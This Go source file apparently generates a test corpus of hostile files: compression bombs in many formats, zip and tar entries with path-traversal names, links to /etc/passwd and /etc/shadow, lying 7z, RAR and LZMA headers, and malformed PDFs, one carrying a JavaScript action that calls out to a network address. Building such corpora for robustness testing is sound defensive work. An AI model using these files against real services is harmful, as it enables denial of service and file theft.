package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"
	"unicode/utf16"
)

// A hostileFile is made to harm whoever opens it.
type hostileFile struct {
	name, what string
	data       []byte
}

func gzipped(p []byte) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write(p)
	_ = w.Close()
	return b.Bytes()
}

// zstandard is a Zstandard frame of n blocks of 128 KiB that each repeat one byte
// (RFC 8878, 3.1.1).
func zstandard(n int) []byte {
	b := []byte{0x28, 0xb5, 0x2f, 0xfd, 0, 7 << 3}
	for i := range n {
		head := uint32(1<<1 | (128<<10)<<3)
		if i == n-1 {
			head |= 1
		}
		b = append(b, byte(head), byte(head>>8), byte(head>>16), 0)
	}
	return b
}

// What the programs bzip2 makes of 900,000 zero bytes, and xz of a MiB of them.
const (
	bzip2Zeros = "QlpoOTFBWSZTWWPj7KIABuTBAMAAAgAACCAAMMwJqmmUoTapKE8XckU4UJBj4+yi"
	xzZeros    = "/Td6WFoAAATm1rRGAgAhARwAAAAQz1jM7///ANldAABv/f//o7f/Rz5IFXI5YVG4kijmo4YH+e7kHoLTL8U6PAFLsX7JiopNL6MN2X+m44wjEVPgWRjFdYrid/i2lH8MasDedElk4ulcU7IE2PdEDKtfDW1G6eXDdoi3llestk3haR1v+0uIEGxCy4g/XACP0E6vJiiUcR89jyThcJ6nI1/sKMuF0ZWYin4qkfIndfcZwAaYTZj92K/VkA/EJVP49ZE2MQWlsO5vwXBNRwzRkRGqrWAdus6xJxhcWYbpZlJYvul2rFnk5VsFCPnH2q38+1Iq9+SVJQAAAAAAwva6PqJwa2AAAfUBgIBAAHmXf0exxGf7AgAAAAAEWVo="
)

// again is a stream so many times in a row, which is a stream too.
func again(stream string, n int) []byte {
	one, err := base64.StdEncoding.DecodeString(stream)
	if err != nil {
		panic(err)
	}
	return bytes.Repeat(one, n)
}

// A zipEntry is a file of an archive: after its data, MiB of spaces.
type zipEntry struct {
	name string
	data []byte
	mib  int
}

func zipped(entries ...zipEntry) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, e := range entries {
		f, err := w.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Deflate})
		if err != nil {
			panic(err)
		}
		_, _ = f.Write(e.data)
		spaces := bytes.Repeat([]byte(" a"), 1<<19)
		for range e.mib {
			_, _ = f.Write(spaces)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// overlapping is an archive whose n entries are all the same bytes of the file.
func overlapping(n int) []byte {
	one := zipped(zipEntry{name: "kernel", data: make([]byte, 16<<20)})
	at := bytes.LastIndex(one, []byte("PK\x01\x02"))
	end := bytes.LastIndex(one, []byte("PK\x05\x06"))
	entry, out := one[at:end], bytes.Clone(one[:at])
	for range n {
		out = append(out, entry...)
	}
	tail := bytes.Clone(one[end:])
	binary.LittleEndian.PutUint16(tail[8:], uint16(n))
	binary.LittleEndian.PutUint16(tail[10:], uint16(n))
	binary.LittleEndian.PutUint32(tail[12:], uint32(n*len(entry)))
	return append(out, tail...)
}

// nestedZip is an archive in an archive, so deep, with a letter at the bottom.
func nestedZip(deep int) []byte {
	data := []byte("the bottom")
	name := "letter.txt"
	for i := range deep {
		data, name = zipped(zipEntry{name: name, data: data}), fmt.Sprintf("level%d.zip", i)
	}
	return data
}

func tarred(headers ...tar.Header) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, h := range headers {
		h.Mode = 0o644
		if err := w.WriteHeader(&h); err != nil {
			panic(err)
		}
		_, _ = w.Write(make([]byte, h.Size))
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// sparseTar claims a file of a terabyte that is a hole.
func sparseTar() []byte {
	b := tarred(tar.Header{Name: "hole", Size: 512})
	h := b[:512]
	copy(h[156:], "S")
	copy(h[257:], "ustar  \x00")
	copy(h[386:], "00000000000\x0000000001000\x00")
	h[482] = 0
	copy(h[483:], []byte{0x80, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0})
	copy(h[148:], "        ")
	sum := 0
	for _, c := range h {
		sum += int(c)
	}
	copy(h[148:], fmt.Sprintf("%06o\x00 ", sum))
	return b
}

// lying7z has a header of its own that claims 2^62 bytes.
func lying7z() []byte {
	start := binary.LittleEndian.AppendUint64(nil, 0)
	start = binary.LittleEndian.AppendUint64(start, 1<<62)
	start = binary.LittleEndian.AppendUint32(start, 7)
	b := append([]byte("7z\xbc\xaf\x27\x1c\x00\x04"), binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE(start))...)
	return append(append(b, start...), make([]byte, 64)...)
}

// many7z is a header that claims 2^60 files in an archive of few bytes.
func many7z() []byte {
	header := []byte{1, 4, 6, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x0f, 5, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x0f}
	start := binary.LittleEndian.AppendUint64(nil, 0)
	start = binary.LittleEndian.AppendUint64(start, uint64(len(header)))
	start = binary.LittleEndian.AppendUint32(start, crc32.ChecksumIEEE(header))
	b := append([]byte("7z\xbc\xaf\x27\x1c\x00\x04"), binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE(start))...)
	return append(append(b, start...), header...)
}

// lyingRAR has a header of 2^60 bytes, as it says.
func lyingRAR() []byte {
	body := []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x0f, 1, 0}
	b := append([]byte("Rar!\x1a\x07\x01\x00"), binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE(body))...)
	return append(b, body...)
}

func archives() []hostileFile {
	long := strings.Repeat("a/", 20_000) + "deep.txt"
	return []hostileFile{
		{"zeros.gz", "gzip of 4 GiB in 4 MB", bytes.Repeat(gzipped(make([]byte, 16<<20)), 256)},
		{"zeros.zst", "Zstandard of 64 GiB", zstandard(512 << 10)},
		{"zeros.bz2", "bzip2 of 4.5 GB in 230 KB", again(bzip2Zeros, 5000)},
		{"zeros.xz", "xz of 4 GiB", again(xzZeros, 4096)},
		{"flat.zip", "one entry of 1 GiB in 1 MB", zipped(zipEntry{name: "spaces", mib: 1024})},
		{"overlap.zip", "5,000 entries of 16 MiB that are the same bytes of the archive", overlapping(5000)},
		{"deep.zip", "archives in archives, 40 deep", nestedZip(40)},
		{"copies.zip", "two hundred copies of one archive of one archive", copies(200)},
		{"itself.zip", "an archive whose one file is the archive itself", quine()},
		{"climb.zip", "names that climb out of the folder, are absolute, or end in a drive", zipped(
			zipEntry{name: "../../../../escaped.txt", data: []byte("out")}, zipEntry{name: "/escaped-absolute.txt", data: []byte("out too")}, zipEntry{name: `C:\escaped.txt`, data: []byte("out three")}, zipEntry{name: long, data: []byte("deep")})},
		{"links.tar", "links to /etc, devices, a pipe, a name that climbs", tarred(
			tar.Header{Name: "../escaped-tar.txt", Typeflag: tar.TypeReg, Size: 1}, tar.Header{Name: "passwd", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"},
			tar.Header{Name: "hard", Typeflag: tar.TypeLink, Linkname: "../../etc/shadow"}, tar.Header{Name: "null", Typeflag: tar.TypeChar, Devmajor: 1, Devminor: 3}, tar.Header{Name: "pipe", Typeflag: tar.TypeFifo})},
		{"hole.tar", "a file of a terabyte that is a hole", sparseTar()},
		{"lies.7z", "a header of 2^62 bytes", lying7z()},
		{"many.7z", "2^60 files in 55 bytes", many7z()},
		{"lies.rar", "a header of 2^60 bytes", lyingRAR()},
		{"lzma.lzma", "a dictionary of 4 GiB", append([]byte{0x5d, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f, 0}, make([]byte, 64)...)},
	}
}

func copies(n int) []byte {
	inner := zipped(zipEntry{name: "letter.txt", data: []byte("one letter")})
	var all []zipEntry
	for i := range n {
		all = append(all, zipEntry{name: fmt.Sprintf("copy%d.zip", i), data: inner})
	}
	return zipped(all...)
}

// A pdfFile is objects, from number 1; the first is the catalogue.
type pdfFile []string

// bytes writes the file. trailer is added to its trailer.
func (p pdfFile) bytes(trailer string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	var offsets []int
	for i, o := range p {
		offsets = append(offsets, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	at := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(p)+1)
	for _, o := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer <</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n", len(p)+1, strings.ReplaceAll(trailer, "HERE", fmt.Sprint(at)), at)
	return b.Bytes()
}

func pdfStream(dict string, data []byte) string {
	return fmt.Sprintf("<<%s /Length %d>>\nstream\n%s\nendstream", dict, len(data), data)
}

func deflated(p []byte) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write(p)
	_ = w.Close()
	return b.Bytes()
}

// longSpaces is a zlib stream of n MiB of spaces, made without making them.
func longSpaces(n int) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	mib := bytes.Repeat([]byte(" "), 1<<20)
	_, _ = w.Write(mib)
	_ = w.Flush()
	head := b.Len()
	_, _ = w.Write(mib)
	_ = w.Flush()
	return append(b.Bytes()[:head:head], bytes.Repeat(b.Bytes()[head:], n-1)...)
}

// onePage is a document of one page with this content; more are objects from 6 on.
func onePage(content, resources string, more ...string) pdfFile {
	return append(pdfFile{
		"<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [3 0 R] /Count 1>>",
		"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources <</Font <</F1 5 0 R>> " + resources + ">>>>",
		content, "<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
	}, more...)
}

func pdfs(network string) []hostileFile {
	text := pdfStream("", []byte("BT /F1 12 Tf 72 700 Td (a letter) Tj ET"))
	set := func(p pdfFile, n int, object string) pdfFile { p[n-1] = object; return p }
	tree := onePage(text, "")
	tree[1] = "<</Type /Pages /Kids [" + strings.Repeat("6 0 R ", 100) + "] /Count 1000000>>"
	tree = append(tree, "<</Type /Pages /Parent 2 0 R /Kids ["+strings.Repeat("7 0 R ", 100)+"] /Count 10000>>",
		"<</Type /Pages /Parent 6 0 R /Kids ["+strings.Repeat("3 0 R ", 100)+"] /Count 100>>")
	form := "<</Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 6 0 R /Y 7 0 R>>>> /Length 12>>\nstream\n/X Do /Y Do \nendstream"
	picture := pdfStream("/Type /XObject /Subtype /Image /Width 65535 /Height 65535 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode", longSpaces(64))
	font := set(onePage(pdfStream("", []byte("BT /F1 12 Tf 72 700 Td (a letter) Tj ET")), ""), 5,
		"<</Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 0 /LastChar 255 /Widths 6 0 R /FontDescriptor 7 0 R /ToUnicode 9 0 R>>")
	font = append(font, "["+strings.Repeat("500 ", 256)+"]", "<</Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile2 8 0 R>>",
		pdfStream("/Length1 2000000000", append([]byte("\x00\x01\x00\x00\xff\xff\x00\x00\x00\x00\x00\x00"), bytes.Repeat([]byte("glyf\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"), 4000)...)),
		pdfStream("/Filter [/FlateDecode /FlateDecode]", deflated(longSpaces(1024))))
	return []hostileFile{
		{"twice.pdf", "content packed twice: 7 KB are 4 GiB", onePage(pdfStream("/Filter [/FlateDecode /FlateDecode]", deflated(longSpaces(4096))), "").bytes("")},
		{"cycle.pdf", "a tree of pages that is its own child", set(onePage(text, ""), 2, "<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R>>").bytes("")},
		{"xref.pdf", "a table of objects whose predecessor is itself", onePage(text, "").bytes("/Prev HERE")},
		{"objects.pdf", "streams of objects that extend each other", onePage(text, "", pdfStream("/Type /ObjStm /N 1000000000 /First 10 /Extends 7 0 R", []byte("1 0 2 0 x")), pdfStream("/Type /ObjStm /N 1 /First 4 /Extends 6 0 R", []byte("1 0 x"))).bytes("")},
		{"million.pdf", "a million pages, each the same", tree.bytes("")},
		{"count.pdf", "a hundred million pages, as it says", set(onePage(text, ""), 2, "<</Type /Pages /Kids [3 0 R] /Count 100000000>>").bytes("")},
		{"forms.pdf", "drawings that draw themselves twice", onePage(pdfStream("", []byte("/X Do /Y Do")), "/XObject <</X 6 0 R /Y 7 0 R>>", form, form).bytes("")},
		{"picture.pdf", "a picture of four thousand million pixels", onePage(pdfStream("", []byte("q 612 0 0 792 0 0 cm /P Do Q")), "/XObject <</P 6 0 R>>", picture).bytes("")},
		{"font.pdf", "a font whose tables lie, and whose map is 1 GiB", font.bytes("")},
		{"script.pdf", "a script, a form that is sent, a remote file", set(onePage(text, ""), 1,
			"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (app.launchURL\\(\""+network+"/pdf\"\\);)>> /AA <</WC <</S /URI /URI ("+network+"/aa)>>>>>>").bytes("")},
	}
}

// utf16Odd is a text of two bytes a letter that ends in half a letter.
func utf16Odd() []byte {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune("a letter with an odd tail")) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return append(b, 0x00, 0xd8, 'x')
}
